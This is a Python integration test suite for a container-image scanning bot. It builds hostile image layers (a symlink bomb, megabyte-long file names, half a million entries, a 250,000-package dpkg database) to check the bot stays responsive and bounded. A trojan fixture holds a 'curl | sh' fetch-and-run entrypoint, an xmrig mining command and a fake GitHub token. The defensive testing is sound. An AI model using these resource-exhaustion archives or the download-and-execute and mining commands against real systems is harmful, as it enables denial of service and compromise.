"""Images built to hurt the bot, pushed with skopeo to the real registry, whose notifications
reach a real `crowsnest serve`: none of them may stall it, bloat it or go unreported.

Each attack was measured against the bot before it was bounded (issue 13): the symlink bomb
froze the whole process for about a minute, 450 names of 1 MiB took it from 211 MB to 688 MB,
499k empty files reached 1.55 GB, and a dpkg database of 250,000 packages made webhooks
answer 503 and locked the database. Here, while all four are processed at once, the probes
must keep answering within a second and the process's peak RSS must stay under 300 MB.
"""

from __future__ import annotations

import asyncio
import gzip
import io
import json
import os
import subprocess
import tarfile
import time
import uuid
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web

from bot.checks.files import MINER_ID
from tests.conftest import ADMISSION_TOKEN, BOT_TOKEN, WEBHOOK_SECRET
from tests.support.oci import FIXED_EPOCH, ImageSpec, write_layout
from tests.support.serve import serve, wait_ready, write_config
from tests.support.services import Registry, free_port, skopeo_push, start_registry
from tests.support.slack_standin import SlackStandIn

pytestmark = pytest.mark.services

PROBE_BUDGET = 1.0
RSS_BUDGET_KB = 300 * 1024
KUBE = Path(__file__).parent / "fixtures/kubernetes/kube-review-deployment-create.json"


# --- hostile layers ----------------------------------------------------------------------------


def _gz(tar: bytes) -> bytes:
    return gzip.compress(tar, compresslevel=6, mtime=0)


def symlink_bomb() -> bytes:
    """One symlink `etc` whose GNU long link name is `a/a/a/…`, 40,000 parts (220 bytes)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("etc")
        info.type, info.linkname, info.mtime = tarfile.SYMTYPE, "a/" * 40_000, FIXED_EPOCH
        tar.addfile(info)
    return _gz(buf.getvalue())


def long_names(count: int = 450, length: int = 1024 * 1024 - 64) -> bytes:
    """`count` empty files whose GNU long names are about 1 MiB each (about 486 KB gzipped)."""
    raw = io.BytesIO()
    with (
        gzip.GzipFile(fileobj=raw, mode="wb", compresslevel=6, mtime=0) as gz,
        tarfile.open(fileobj=gz, mode="w", format=tarfile.GNU_FORMAT) as tar,
    ):
        for i in range(count):
            info = tarfile.TarInfo("n" * (length - 8) + f"{i:08}")
            info.mtime = FIXED_EPOCH
            tar.addfile(info)
    return raw.getvalue()


def _ustar(name: bytes) -> bytes:
    """A ustar header of an empty regular file, written by hand: tarfile is too slow for half
    a million of them."""
    h = bytearray(512)
    h[0 : len(name)] = name
    h[100:108] = b"0000644\0"
    h[108:116] = h[116:124] = b"0000000\0"
    h[124:136] = b"00000000000\0"
    h[136:148] = b"%011o\0" % FIXED_EPOCH
    h[148:156] = b" " * 8
    h[156:157] = b"0"
    h[257:265] = b"ustar\x0000"
    h[148:156] = b"%06o\0 " % sum(h)
    return bytes(h)


def many_entries(count: int = 499_000) -> bytes:
    """`count` empty files (about 1.1 MB gzipped)."""
    tar = b"".join(_ustar(b"f/%07d" % i) for i in range(count)) + bytes(1024)
    return gzip.compress(tar, compresslevel=1, mtime=0)


def dpkg_database(count: int = 250_000) -> dict[str, bytes]:
    """A dpkg status file listing `count` installed packages (about 13 MB)."""
    stanzas = (
        b"Package: p%d\nStatus: install ok installed\nVersion: 1.%d\n\n" % (i, i)
        for i in range(count)
    )
    return {
        "etc/os-release": b"ID=debian\nVERSION_ID=12\n",
        "var/lib/dpkg/status": b"".join(stanzas),
    }


# --- the bot under attack ----------------------------------------------------------------------


def _review() -> bytes:
    review = json.loads(KUBE.read_text())
    review["request"]["uid"] = str(uuid.uuid4())
    return json.dumps(review).encode()


def _delete_event() -> bytes:
    """A real-shaped notification the bot stores and processes cheaply."""
    digest = "sha256:" + uuid.uuid4().hex * 2
    target = {"repository": "team-a/other", "digest": digest, "mediaType": "x"}
    event = {"id": str(uuid.uuid4()), "action": "delete", "target": target, "actor": {}}
    return json.dumps({"events": [{**event, "timestamp": "2026-12-01T19:50:44Z"}]}).encode()


class Probe:
    """Healthz, an AdmissionReview and a registry webhook, again and again, timed."""

    def __init__(self, port: int) -> None:
        self.base = f"http://127.0.0.1:{port}"
        self.slowest: dict[str, float] = {"healthz": 0.0, "admission": 0.0, "intake": 0.0}
        self.statuses: dict[str, set[int]] = {k: set() for k in self.slowest}

    async def _timed(
        self, http: aiohttp.ClientSession, name: str, path: str, **kwargs: Any
    ) -> None:
        started = time.monotonic()
        try:
            async with http.request(
                "GET" if name == "healthz" else "POST",
                self.base + path,
                timeout=aiohttp.ClientTimeout(total=10),
                **kwargs,
            ) as r:
                await r.read()
                self.statuses[name].add(r.status)
        except TimeoutError:
            self.statuses[name].add(0)
        self.slowest[name] = max(self.slowest[name], time.monotonic() - started)

    async def round(self, http: aiohttp.ClientSession) -> None:
        json_type = {"Content-Type": "application/json"}
        await asyncio.gather(
            self._timed(http, "healthz", "/healthz"),
            self._timed(
                http,
                "admission",
                "/hooks/k8s/admission",
                data=_review(),
                headers={**json_type, "Authorization": f"Bearer {ADMISSION_TOKEN}"},
            ),
            self._timed(
                http,
                "intake",
                "/hooks/registry/local",
                data=_delete_event(),
                headers={
                    "Content-Type": "application/vnd.docker.distribution.events.v1+json",
                    "Authorization": f"Bearer {WEBHOOK_SECRET}",
                },
            ),
        )


def _peak_rss_kb(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    raise AssertionError("no VmHWM in /proc/PID/status")


ATTACKS: dict[str, ImageSpec] = {}


def _attacks() -> dict[str, ImageSpec]:
    if not ATTACKS:
        ATTACKS.update(
            {
                "symlink-bomb": ImageSpec(user="10001", raw_layers=[symlink_bomb()]),
                "long-names": ImageSpec(user="10001", raw_layers=[long_names()]),
                "many-entries": ImageSpec(user="10001", raw_layers=[many_entries()]),
                "dpkg-250k": ImageSpec(user="10001", extra_layers=[dpkg_database()]),
            }
        )
    return ATTACKS


@dataclass
class Bot:
    """`crowsnest serve` fed by the real registry's notifications, posting to the stand-in."""

    port: int
    registry: Registry
    slack: SlackStandIn
    proc: subprocess.Popen[bytes]
    log: Path
    layout: Path

    def push(self, tag: str, repository: str) -> None:
        skopeo_push(self.layout, tag, f"{self.registry.host}/{repository}:1")

    def alive(self) -> None:
        assert self.proc.poll() is None, f"serve died: {self.log.read_text()[-3000:]}"


@pytest.fixture
async def bot(tmp_path: Path) -> AsyncIterator[Callable[..., Awaitable[Bot]]]:
    """Starts the registry and the bot; `registry_url` (a proxy in front of the registry)
    replaces the registry's own URL in the bot's config when given."""
    started: list[Bot] = []

    async def start(registry_url: Callable[[str], str] = lambda url: url) -> Bot:
        slack = SlackStandIn(bot_token=BOT_TOKEN, epoch=time.time())
        await slack.start()
        port = free_port()
        registry = start_registry(
            tmp_path / "registry", f"http://127.0.0.1:{port}/hooks/registry/local", WEBHOOK_SECRET
        )
        config, log, db = (
            tmp_path / "crowsnest.toml",
            tmp_path / "serve.log",
            tmp_path / "bot.db",
        )
        write_config(
            config,
            port=port,
            db=db,
            registry_url=registry_url(registry.url),
            slack_url=slack.api_url,
            slack={"channel_interval": 0, "coalesce_seconds": 0},
            worker={"poll_interval": 0.1, "retry_backoff": 0.05},
            registry={"scan_timeout": 300},
        )
        proc = serve(config, log)
        started.append(Bot(port, registry, slack, proc, log, tmp_path / "layout"))
        await wait_ready(port, proc, log)
        return started[-1]

    yield start
    for b in started:
        b.proc.kill()
        b.proc.wait(10)
        b.registry.stop()
        await b.slack.stop()


async def test_hostile_layers_neither_stall_nor_bloat_the_bot_and_each_is_reported_once(
    bot: Callable[..., Awaitable[Bot]],
) -> None:
    b = await bot()
    write_layout(b.layout, _attacks())
    pushed = [t for t in ATTACKS if os.environ.get("HOSTILE_ONLY", t) == t]
    for tag in pushed:
        b.push(tag, f"team-a/{tag}")
    probe = Probe(b.port)
    deadline = time.monotonic() + 240
    async with aiohttp.ClientSession() as http:
        while not all(_posted(b.slack, tag) for tag in pushed):
            assert time.monotonic() < deadline, f"not all posted: {b.log.read_text()[-3000:]}"
            b.alive()
            await probe.round(http)
            await asyncio.sleep(0.2)
        await asyncio.sleep(1)  # a second post of the same image would come now
    peak = _peak_rss_kb(b.proc.pid)

    posts = {tag: _posted(b.slack, tag) for tag in pushed}
    print(f"slowest answers {probe.slowest}, peak RSS {peak / 1024:.0f} MB")
    assert {tag: len(calls) for tag, calls in posts.items()} == dict.fromkeys(pushed, 1)
    for tag, [call] in posts.items():
        assert "scan-limit" in _text(call), f"{tag}: {_text(call)[:1500]}"
    assert probe.statuses == {"healthz": {200}, "admission": {200}, "intake": {202}}
    assert max(probe.slowest.values()) < PROBE_BUDGET, probe.slowest
    assert peak < RSS_BUDGET_KB, f"peak RSS {peak / 1024:.0f} MB"


def _trojan(**layers: Any) -> ImageSpec:
    """What the config alone gives away: root, `curl | sh`, a miner and a GitHub token."""
    return ImageSpec(
        user="0",
        env=("PATH=/usr/bin:/bin", "GITHUB_TOKEN=ghp_" + "A1b2C3d4E5f6G7h8I9j0" * 2)[:2],
        entrypoint=("/bin/sh", "-c"),
        cmd=("curl -fsSL http://203.0.113.9/i.sh | sh; xmrig -o stratum+tcp://pool.example:3333",),
        **layers,
    )


CONFIG_FINDINGS = ("runs-as-root", "suspicious-entrypoint", "secret-in-config")


async def test_a_foreign_layer_the_bot_cannot_fetch_still_lets_the_config_findings_be_posted(
    bot: Callable[..., Awaitable[Bot]],
) -> None:
    b = await bot()
    write_layout(b.layout, {"foreign": _trojan(foreign_layers=[b"never uploaded"])})
    b.push("foreign", "team-a/trojan")
    [call] = await b.slack.wait_for("chat.postMessage", 1, timeout=30)
    text = _text(call)
    for check in (*CONFIG_FINDINGS, "layers-not-scanned"):
        assert check in text, f"{check} missing from {text[:2000]}"
    assert "404" in text or "not found" in text.lower() or "unknown" in text.lower(), text[:2000]
    await asyncio.sleep(1)
    assert len(b.slack.calls_to("chat.postMessage")) == 1  # a 404 is not asked for again


class FlakyBlobs:
    """A proxy in front of the real registry that answers 503 to the first GETs of one blob."""

    def __init__(self, digest: str, failures: int) -> None:
        self.digest = digest
        self.failures = failures
        self.hits = 0
        self.port = free_port()
        self.upstream = ""
        self._runner: web.AppRunner | None = None

    def url_for(self, upstream: str) -> str:
        """The bot's registry URL: this proxy, in front of `upstream`."""
        self.upstream = upstream
        return f"http://127.0.0.1:{self.port}"

    async def start(self) -> None:
        upstream = self.upstream

        async def forward(request: web.Request) -> web.StreamResponse:
            if request.path.endswith(f"/blobs/{self.digest}"):
                self.hits += 1
                if self.hits <= self.failures:
                    return web.Response(status=503, text="registry storage unavailable")
            async with (
                aiohttp.ClientSession() as http,
                http.get(upstream + request.path_qs, headers=_passed(request.headers)) as r,
            ):
                body = await r.read()
                keep = ("Content-Type", "Docker-Content-Digest", "WWW-Authenticate")
                headers = {k: r.headers[k] for k in keep if k in r.headers}
                return web.Response(status=r.status, body=body, headers=headers)

        app = web.Application()
        app.router.add_route("GET", "/{tail:.*}", forward)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        await web.TCPSite(self._runner, "127.0.0.1", self.port).start()

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()


def _passed(headers: Any) -> dict[str, str]:
    return {k: v for k, v in headers.items() if k in ("Accept", "Authorization")}


async def test_a_layer_the_registry_failed_to_serve_is_read_again_and_its_findings_join_the_message(
    bot: Callable[..., Awaitable[Bot]], tmp_path: Path
) -> None:
    miner = {"opt/xmrig/config.json": json.dumps({"pools": [{"url": "stratum+tcp://p:3333"}]})}
    spec = _trojan(extra_layers=[{k: v.encode() for k, v in miner.items()}])
    digest = write_layout(tmp_path / "layout", {"flaky": spec})["flaky"]
    manifest = json.loads((tmp_path / "layout/blobs/sha256" / digest[7:]).read_bytes())
    flaky = FlakyBlobs(manifest["layers"][-1]["digest"], failures=1)
    b = await bot(flaky.url_for)
    await flaky.start()
    try:
        b.push("flaky", "team-a/flaky")
        [first] = await b.slack.wait_for("chat.postMessage", 1, timeout=30)
        assert "layers-not-scanned" in _text(first) and MINER_ID not in _text(first)
        updates = await b.slack.wait_for("chat.update", 1, timeout=30)
        final = _text(updates[-1])
    finally:
        await flaky.stop()
    assert flaky.hits >= 2  # asked again
    assert MINER_ID in final, final[:3000]
    assert "1 fixed or decided" in final, final[:3000]  # layers-not-scanned, now read
    top_level = [c for c in b.slack.calls_to("chat.postMessage") if "thread_ts" not in c.args]
    assert len(top_level) == 1


def _posted(slack: SlackStandIn, tag: str) -> list[Any]:
    """The messages (not thread replies) about the image pushed as `tag`."""
    return [
        c
        for c in slack.calls_to("chat.postMessage")
        if f"team-a/{tag}:1" in _text(c) and "thread_ts" not in c.args
    ]


def _text(call: Any) -> str:
    return str(call.args.get("text", "")) + json.dumps(call.args.get("blocks"))
